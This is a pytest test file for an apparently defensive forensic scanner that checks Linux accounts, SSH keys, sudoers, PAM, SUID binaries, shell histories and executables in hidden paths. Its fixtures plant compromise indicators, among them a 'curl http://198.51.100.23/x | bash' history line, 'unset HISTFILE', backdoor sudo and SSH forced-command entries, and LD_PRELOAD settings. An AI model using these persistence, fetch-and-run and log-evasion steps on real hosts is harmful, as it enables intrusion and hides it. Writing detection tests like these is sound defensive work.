# SPDX-License-Identifier: AGPL-3.0-or-later
"""accounts, SSH, set-user-id programs, histories, programs in odd places."""

import struct

import pytest
from conftest import TreeMaker
from hypothesis import given
from hypothesis import strategies as st

from clean_room_analysis.checks.accounts import Accounts
from clean_room_analysis.checks.shell_history import ShellHistory
from clean_room_analysis.checks.ssh import Ssh, fingerprint
from clean_room_analysis.checks.suid import Suid, dangerous_capabilities
from clean_room_analysis.checks.temporary_executables import TemporaryExecutables
from clean_room_analysis.model import Severity, TimelineEvent

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh"
OTHER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJi"


def test_accounts(plain: TreeMaker) -> None:
    plain.file(
        "/etc/passwd",
        "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nsysadm:x:0:0::/x:/bin/bash\nopen::1001:1001::/home/open:/bin/bash\nnot a line\n",
    )
    plain.file("/etc/passwd-", "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nopen::1001:1001::/home/open:/bin/bash\n")
    plain.file("/etc/shadow", "root:*:1::::::\nfree::1::::::\n")
    plain.file("/etc/sudoers.d/90-cloud-init-users", "ec2-user ALL=(ALL) NOPASSWD:ALL\n")
    plain.file("/etc/sudoers.d/x", "evil ALL=(ALL) NOPASSWD: ALL\n")
    plain.file("/etc/pam.d/sshd", "auth optional pam_exec.so /usr/bin/x\nauth required pam_unix.so\nauth sufficient /lib/x.so\n")
    assert {(one.title, one.severity) for one in plain.findings(Accounts())} == {
        ("A second account is superuser: sysadm", Severity.CRITICAL),
        ("Account open has no password at all", Severity.HIGH),
        ("Account free can log in without a password", Severity.HIGH),
        ("evil may become root without a password", Severity.HIGH),
        ("A program runs at every log-in (PAM)", Severity.HIGH),
        ("Log-in uses a PAM module from an odd place", Severity.HIGH),
        ("Account sysadm was made in the last change of accounts", Severity.LOW),
    }


def test_password_hashes_never_reach_a_finding(plain: TreeMaker) -> None:
    plain.file("/etc/passwd", "twin:$6$salt$secret:0:0::/x:/bin/bash\n")
    plain.file("/etc/shadow", "twin:$6$salt$secret:1::::::\nfree::$6$salt$secret::::::\n")
    found = plain.findings(Accounts())
    assert {one.severity for one in found} == {Severity.CRITICAL, Severity.HIGH}
    assert len(found) == 3 and not any("secret" in one.evidence + one.title for one in found)


def test_ssh_keys(plain: TreeMaker) -> None:
    forced = 'no-pty,command="echo \'Please login as the user \\"ec2-user\\"\'"'
    plain.file("/root/.ssh/authorized_keys", f"# note\n{forced} {KEY} launch\n{OTHER} kali\n")
    plain.file("/home/ec2-user/.ssh/authorized_keys", f"{KEY} launch\n{OTHER} added\n")
    plain.file("/var/lib/sysadm/.ssh/authorized_keys", f"{OTHER}\n")
    plain.file("/home/a/.ssh/authorized_keys2", f'command="/tmp/x" {KEY}\n')
    found = plain.findings(Ssh())
    assert {(one.path, one.severity, one.evidence.split(":")[0]) for one in found} == {
        ("/root/.ssh/authorized_keys", Severity.HIGH, "line 3"),
        ("/home/ec2-user/.ssh/authorized_keys", Severity.INFORMATIONAL, "line 1"),
        ("/home/ec2-user/.ssh/authorized_keys", Severity.LOW, "line 2"),
        ("/var/lib/sysadm/.ssh/authorized_keys", Severity.HIGH, "line 1"),
        ("/home/a/.ssh/authorized_keys2", Severity.HIGH, "line 1"),
    }
    assert all(one.attack[0] == "T1098.004" for one in found)


def test_fingerprints_are_those_of_ssh_keygen() -> None:
    assert fingerprint(KEY.split()[1]) == "SHA256:TGIk2D1DFZBKmjWssB2+Qdiona/OUK1TSuWAAHMK+n0"
    assert fingerprint("not*base64") is None


@pytest.mark.parametrize(
    ("line", "weak"),
    [
        ("PermitRootLogin yes", True),
        ("PermitRootLogin prohibit-password", False),
        ("PasswordAuthentication yes", True),
        ("#PasswordAuthentication yes", False),
        ("AuthorizedKeysFile .ssh/authorized_keys", False),
        ("AuthorizedKeysFile /usr/share/keys/%u", True),
        ("AuthorizedKeysCommand none", False),
        ("AuthorizedKeysCommand /opt/aws/bin/eic_run_authorized_keys %u %f", False),
        ("AuthorizedKeysCommand /usr/bin/x", True),
        ("permitemptypasswords=yes", True),
    ],
)
def test_ssh_server_settings(plain: TreeMaker, line: str, weak: bool) -> None:
    plain.file("/etc/ssh/sshd_config", f"UsePAM yes\n{line}\n")
    assert bool(plain.findings(Ssh())) is weak


def test_suid(plain: TreeMaker) -> None:
    plain.file("/usr/bin/sudo", b"\x7fELF", 0o4755)
    plain.file("/usr/local/bin/.helper", b"\x7fELF", 0o4755)
    plain.file("/tmp/sudo", b"\x7fELF", 0o2755)
    plain.file("/usr/bin/odd", b"\x7fELF", 0o4755)
    found = {one.path: one for one in plain.findings(Suid())}
    assert set(found) == {"/usr/local/bin/.helper", "/tmp/sudo", "/usr/bin/odd"}
    assert found["/tmp/sudo"].severity is Severity.HIGH
    assert all(one.sha256 is not None and len(one.sha256) == 64 for one in found.values())
    owner = (plain.root / "usr/bin/odd").stat().st_uid
    assert found["/usr/bin/odd"].severity is (Severity.HIGH if owner == 0 else Severity.MEDIUM)


@given(st.binary(max_size=40))
def test_any_capability_attribute_is_read(raw: bytes) -> None:
    assert all(name.startswith("cap_") for name in dangerous_capabilities(raw))


def test_capabilities_as_good_as_root_are_named() -> None:
    revision_2 = struct.pack("<IIIII", 0x02000001, 1 << 7 | 1 << 13, 0, 1 << (39 - 32), 0)
    assert dangerous_capabilities(revision_2) == ["cap_setuid", "cap_bpf"]


def test_shell_history(plain: TreeMaker) -> None:
    plain.file("/root/.bash_history", "ls\n#1795500000\ncurl http://198.51.100.23/x | bash\nunset HISTFILE\n")
    plain.file("/home/a/.zsh_history", ": 1795500001:0;df -h\n")
    plain.link("/home/b/.bash_history", "/dev/null")
    results = plain.results(ShellHistory())
    events = [one for one in results if isinstance(one, TimelineEvent)]
    assert [(one.at, one.message) for one in events] == [
        (1795500000 * 10**9, ".bash_history: curl http://198.51.100.23/x | bash"),
        (1795500001 * 10**9, ".zsh_history: df -h"),
    ]
    typed, linked = plain.findings(ShellHistory())
    assert (linked.path, linked.severity, linked.attack) == ("/home/b/.bash_history", Severity.HIGH, ("T1070.003",))
    assert typed.evidence == "  line 1: ls\n> line 3: curl http://198.51.100.23/x | bash\n> line 4: unset HISTFILE"
    assert {"T1059.004", "T1105", "T1070.003"} <= set(typed.attack)


def test_programs_in_odd_places(plain: TreeMaker) -> None:
    plain.file("/tmp/.font-unix/kworkerd", b"\x7fELF", 0o755)
    plain.file("/tmp/notes.txt", "text")
    plain.file("/var/tmp/run.sh", "#!/bin/sh\n", 0o755)
    plain.file("/dev/.udev.tab", "x")
    plain.file("/usr/sbin/kworkerd", b"\x7fELF", 0o755)
    plain.file("/usr/lib/.cache2/x", b"\x7fELF", 0o644)
    plain.file("/home/a/project/.git/hooks/pre-commit", "#!/bin/sh\n", 0o755)
    found = {one.path: one for one in plain.findings(TemporaryExecutables())}
    assert {path: one.severity for path, one in found.items()} == {
        "/tmp/.font-unix/kworkerd": Severity.HIGH,
        "/var/tmp/run.sh": Severity.MEDIUM,
        "/dev/.udev.tab": Severity.HIGH,
        "/usr/sbin/kworkerd": Severity.HIGH,
        "/usr/lib/.cache2/x": Severity.HIGH,
    }
    assert "T1036.004" in found["/tmp/.font-unix/kworkerd"].attack


@pytest.mark.parametrize(
    ("options", "path", "severity"),
    [
        ('command="/bin/bash"', "/root", Severity.HIGH),
        ('no-pty,command="/usr/local/bin/backup"', "/root", Severity.HIGH),
        ('restrict,Command="/usr/bin/whatever"', "/var/lib/x", Severity.HIGH),
        ('command="exec python3 -i"', "/home/a", Severity.MEDIUM),
        ('command="/usr/bin/rrsync /data"', "/home/a", Severity.LOW),
        ("command=\"/bin/sh # echo 'Please login as the user x'\"", "/root", Severity.HIGH),
        ('environment="LD_PRELOAD=/x.so"', "/home/a", Severity.HIGH),
    ],
)
def test_commands_tied_to_keys_count_whatever_they_run(plain: TreeMaker, options: str, path: str, severity: Severity) -> None:
    plain.file(f"{path}/.ssh/authorized_keys", f"{options} {KEY} x\n")
    assert [one.severity for one in plain.findings(Ssh())] == [severity]


def test_clean_programs_in_places_that_look_odd(plain: TreeMaker) -> None:
    plain.file("/usr/lib/modules/6.1.0/kernel/drivers/watchdog/watchdog.ko", b"\x7fELF", 0o644)
    plain.file("/usr/lib/modules/6.1.0/kernel/fs/jbd2/jbd2.ko", b"\x7fELF", 0o644)
    plain.file("/usr/sbin/watchdog", b"\x7fELF", 0o755)
    plain.file("/usr/bin/migration", b"\x7fELF", 0o755)
    plain.file("/srv/app/.husky/_/pre-commit", "#!/bin/sh\n", 0o755)
    plain.file("/opt/tool/.scripts/run.sh", "#!/bin/sh\n", 0o755)
    assert [one.severity for one in plain.findings(TemporaryExecutables())] == [Severity.LOW]


def test_names_of_blanks_and_dots_and_the_test_virus(plain: TreeMaker) -> None:
    plain.file("/usr/lib/.. /notes", "text")
    plain.file("/var/tmp/.../x.txt", "text")
    plain.file("/home/a/eicar.com", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
    assert {(one.path, one.severity) for one in plain.findings(TemporaryExecutables())} == {
        ("/usr/lib/.. /notes", Severity.HIGH),
        ("/var/tmp/.../x.txt", Severity.HIGH),
        ("/home/a/eicar.com", Severity.MEDIUM),
    }
